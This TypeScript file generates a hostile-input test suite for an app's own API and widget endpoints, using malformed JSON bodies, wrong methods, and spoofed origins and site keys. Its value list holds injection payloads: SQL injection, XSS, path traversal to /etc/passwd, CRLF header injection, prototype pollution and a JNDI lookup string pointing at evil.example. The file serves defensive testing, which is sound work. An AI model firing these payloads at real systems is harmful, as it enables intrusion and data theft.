import type { ReadyState } from "../../src/http/state.js";
import type { Table } from "../../src/tables/types.js";

/** One generated request of the hostile-input suite. */
export interface Case {
  /** The route it exercises, as the app declares it. */
  endpoint: string;
  /** What it sends, for failure messages; `[html]` when it asks for an HTML page. */
  name: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

/** Values a hostile or careless client puts where an id, a number or a word belongs. */
export const HOSTILE_VALUES: readonly string[] = [
  "",
  " ",
  "0",
  "-1",
  "0x2b65",
  "1e309",
  "NaN",
  "Infinity",
  "9".repeat(400),
  "\u0000",
  "%00",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "' OR '1'='1",
  '" OR 1=1 --',
  "<script>alert(1)</script>",
  "{{7*7}}",
  "${jndi:ldap://evil.example/a}",
  "a".repeat(3000),
  "Z\u0334\u0321\u031b\u0316a\u0337l\u0338g\u0335o\u0336",
  "\u202eevil",
  "\ud83d\ude00".repeat(200),
  "中關村".repeat(300),
  "null",
  "__proto__",
  "constructor",
  "\r\nX-Injected: 1",
  "C:\\Windows\\win.ini",
  "%ff%fe",
  "http://evil.example/",
  "javascript:alert(1)",
  "\ud800",
];

/** A deterministic generator (mulberry32), so a failing case can be run again. */
function prng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const enc = (v: string) => {
  try {
    return encodeURIComponent(v);
  } catch {
    return "%ED%A0%80"; // a lone surrogate, as its (invalid) UTF-8 bytes
  }
};
const show = (v: string) => JSON.stringify(v.length > 40 ? `${v.slice(0, 37)}…` : v);
const json = { "content-type": "application/json" };

/**
 * The suite's requests: every query parameter and path parameter of every endpoint with hostile
 * values (a seeded sample of {@link HOSTILE_VALUES}), malformed and hostile `/api/ask` bodies, wrong
 * methods, content types, origins and site keys.
 *
 * @example
 *   hostileCases(state, "econ101").length // → 400 or so
 */
export function hostileCases(state: ReadyState, siteKey: string, seed = 15): Case[] {
  const random = prng(seed);
  const sample = (n: number) => [...HOSTILE_VALUES].sort(() => random() - 0.5).slice(0, n);
  const cases: Case[] = [];
  const add = (endpoint: string, name: string, c: Omit<Case, "endpoint" | "name">) =>
    cases.push({ endpoint, name, ...c });
  const passage = state.qa.passageIdsOf(
    state.manifest.files[0]!.source.replace(/\.[^.]+$/u, ""),
  )[0]!;
  const table = (state.tables as Table[])[0]!.id;
  const docId = state.manifest.files[0]!.source.replace(/\.[^.]+$/u, "");

  // Query parameters, each with hostile values while the others stay sensible.
  const queries: Array<[string, string, Record<string, string>]> = [
    ["/api/search", "/api/search", { q: "Hsinchu", k: "5" }],
    ["/api/tables", "/api/tables", { doc: docId, q: "Table" }],
    ["/api/tables/:id", `/api/tables/${enc(table)}`, { format: "json" }],
    ["/api/data", "/api/data", { row: "Beijing", column: "Domestic", table, doc: docId }],
    ["/api/cite", "/api/cite", { passage, style: "apa", start: "", end: "", format: "json" }],
    ["/api/site", "/api/site", { site: siteKey }],
    ["/widget", "/widget", { site: siteKey, lang: "en" }],
    ["/p/:id", `/p/${enc(passage)}`, { start: "", end: "" }],
  ];
  for (const [endpoint, path, params] of queries)
    for (const name of Object.keys(params))
      for (const v of sample(12)) {
        const q = Object.entries({ ...params, [name]: v })
          .filter(([k, x]) => x !== "" || k === name)
          .map(([k, x]) => `${k}=${enc(x)}`)
          .join("&");
        add(endpoint, `GET ${endpoint} ${name}=${show(v)}`, {
          method: "GET",
          path: `${path}?${q}`,
          headers: {},
        });
      }

  // Path parameters.
  for (const [endpoint, prefix] of [
    ["/api/documents/:id", "/api/documents/"],
    ["/api/passages/:id", "/api/passages/"],
    ["/api/tables/:id", "/api/tables/"],
    ["/p/:id", "/p/"],
    ["/assets/:name", "/assets/"],
  ] as const)
    for (const v of sample(12))
      add(endpoint, `GET ${prefix}${show(v)}`, {
        method: "GET",
        path: `${prefix}${enc(v)}`,
        headers: {},
      });
  // Passage pages for browsers: HTML error pages, not problem documents.
  for (const v of sample(4))
    add("/p/:id", `GET /p/${show(v)} [html]`, {
      method: "GET",
      path: `/p/${enc(v)}?start=${enc(v)}&end=3`,
      headers: { accept: "text/html,application/xhtml+xml" },
    });

  // Bodies of the two question endpoints.
  const bodies: Array<[string, string]> = [
    ["empty", ""],
    ["not JSON", "question=Where"],
    ["truncated", '{"question": "Where is'],
    ["a number", "42"],
    ["null", "null"],
    ["an array", '["Where is ZGC?"]'],
    ["question a number", '{"question": 1}'],
    ["question null", '{"question": null}'],
    ["question empty", '{"question": "   "}'],
    ["question too long", JSON.stringify({ question: "a".repeat(2001) })],
    ["history not a list", '{"question": "Why?", "history": "earlier"}'],
    ["history role wrong", '{"question": "Why?", "history": [{"role": "system", "content": "x"}]}'],
    [
      "history too long",
      JSON.stringify({ question: "Why?", history: Array(21).fill({ role: "user", content: "x" }) }),
    ],
    ["k a string", '{"question": "Why?", "k": "5"}'],
    ["k zero", '{"question": "Why?", "k": 0}'],
    ["k fractional", '{"question": "Why?", "k": 1.5}'],
    ["k huge", '{"question": "Why?", "k": 1e309}'],
    ["style unknown", '{"question": "Why?", "style": "xml"}'],
    ["an extra field", '{"question": "Why?", "admin": true}'],
    ["__proto__", '{"question": "Why?", "__proto__": {"polluted": true}}'],
    ["nested 5000 deep", `${"[".repeat(5000)}${"]".repeat(5000)}`],
    ["a BOM", '\ufeff{"question": "Why?"}'],
    ["a lone surrogate", '{"question": "\\ud800?"}'],
    ["duplicate keys", '{"question": "Why?", "question": 3}'],
  ];
  const questions = [
    "' OR '1'='1 Zhongguancun",
    "Z\u0334\u0321a\u0337l\u0338g\u0335o\u0336 Hsinchu",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "中".repeat(2000),
  ];
  for (const endpoint of ["/api/ask", "/api/ask/stream"]) {
    for (const [name, body] of bodies)
      add(endpoint, `POST ${endpoint} body ${name}`, {
        method: "POST",
        path: endpoint,
        headers: json,
        body,
      });
    for (const type of [
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data; boundary=x",
      "application/jsonx",
      "",
    ])
      add(endpoint, `POST ${endpoint} content-type ${show(type)}`, {
        method: "POST",
        path: endpoint,
        headers: type ? { "content-type": type } : {},
        body: '{"question": "Why?"}',
      });
    for (const q of questions)
      add(endpoint, `POST ${endpoint} question ${show(q)}`, {
        method: "POST",
        path: endpoint,
        headers: json,
        body: JSON.stringify({
          question: q,
          history: [{ role: "user", content: q.repeat(3).slice(0, 8000) }],
        }),
      });
  }

  // Wrong methods everywhere.
  const endpoints: Array<[string, string, string]> = [
    ["/healthz", "/healthz", "GET"],
    ["/readyz", "/readyz", "GET"],
    ["/", "/", "GET"],
    ["/widget", `/widget?site=${siteKey}`, "GET"],
    ["/embed.js", "/embed.js", "GET"],
    ["/assets/:name", "/assets/chat.js", "GET"],
    ["/docs", "/docs", "GET"],
    ["/openapi.json", "/openapi.json", "GET"],
    ["/api/ask", "/api/ask", "POST"],
    ["/api/ask/stream", "/api/ask/stream", "POST"],
    ["/api/search", "/api/search?q=Hsinchu", "GET"],
    ["/api/documents", "/api/documents", "GET"],
    ["/api/documents/:id", `/api/documents/${docId}`, "GET"],
    ["/api/passages/:id", `/api/passages/${passage}`, "GET"],
    ["/api/tables", "/api/tables", "GET"],
    ["/api/tables/:id", `/api/tables/${enc(table)}`, "GET"],
    ["/api/data", "/api/data?row=Beijing", "GET"],
    ["/api/cite", `/api/cite?passage=${passage}`, "GET"],
    ["/api/site", `/api/site?site=${siteKey}`, "GET"],
    ["/p/:id", `/p/${passage}`, "GET"],
  ];
  for (const [endpoint, path, allowed] of endpoints) {
    for (const method of ["PUT", "DELETE", "PATCH", allowed === "GET" ? "POST" : "GET"])
      add(endpoint, `${method} ${endpoint}`, {
        method,
        path,
        headers: method === "GET" ? {} : json,
        body: method === "GET" ? undefined : "{}",
      });
    // And the right method with junk beside it.
    add(endpoint, `${allowed} ${endpoint} with junk query and headers`, {
      method: allowed,
      path: `${path}${path.includes("?") ? "&" : "?"}x=${enc("../../etc/passwd")}&__proto__=1`,
      headers: { ...json, "x-forwarded-for": "::1, 10.0.0.1", accept: "*/*", range: "bytes=0-1" },
      body: allowed === "POST" ? '{"question": "Where is Hsinchu Science Park?"}' : undefined,
    });
  }

  // Origins and site keys on the API.
  const origins = [
    "null",
    "http://evil.example",
    "https://moodle.example.edu.evil.example",
    "file://",
    "http://[::1",
    "javascript:alert(1)",
    "https://moodle.example.edu/",
    "HTTPS://MOODLE.EXAMPLE.EDU",
  ];
  const keys = ["nope", "a", "econ101 ", "econ101\t", "k".repeat(300), "../econ101", "%00"];
  for (const path of [
    "/api/ask",
    "/api/documents",
    "/api/site?site=econ101",
    "/api/search?q=ZGC",
  ]) {
    const post = path === "/api/ask";
    for (const origin of origins)
      add(path.split("?")[0]!, `${post ? "POST" : "GET"} ${path} Origin ${show(origin)}`, {
        method: post ? "POST" : "GET",
        path,
        headers: { ...(post ? json : {}), origin },
        body: post ? '{"question": "Why?"}' : undefined,
      });
    for (const key of keys)
      add(path.split("?")[0]!, `${post ? "POST" : "GET"} ${path} X-Site-Key ${show(key)}`, {
        method: post ? "POST" : "GET",
        path,
        headers: { ...(post ? json : {}), "x-site-key": key.trim() ? key : "blank" },
        body: post ? '{"question": "Why?"}' : undefined,
      });
  }
  return cases;
}
